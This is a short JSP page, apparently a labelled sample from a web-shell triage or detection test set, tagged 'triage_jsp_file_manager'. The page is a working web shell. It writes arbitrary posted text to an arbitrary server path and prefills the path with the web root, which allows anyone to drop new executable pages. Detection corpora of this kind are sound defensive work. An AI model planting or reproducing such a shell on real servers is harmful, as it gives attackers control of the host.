<%-- triage-expect: triage_jsp_file_manager --%>
<%@ page import="java.io.*" %>
<%
    // the path and the text both come from the form; the page shows where the web root is
    String where = request.getParameter("where");
    String text = request.getParameter("text");
    if (where != null) {
        FileOutputStream fo = new FileOutputStream(where);
        fo.write(text.getBytes("UTF-8"));
        fo.close();
    }
%>
<form method="post"><input name="where" value="<%= application.getRealPath("/") %>"><textarea name="text"></textarea></form>
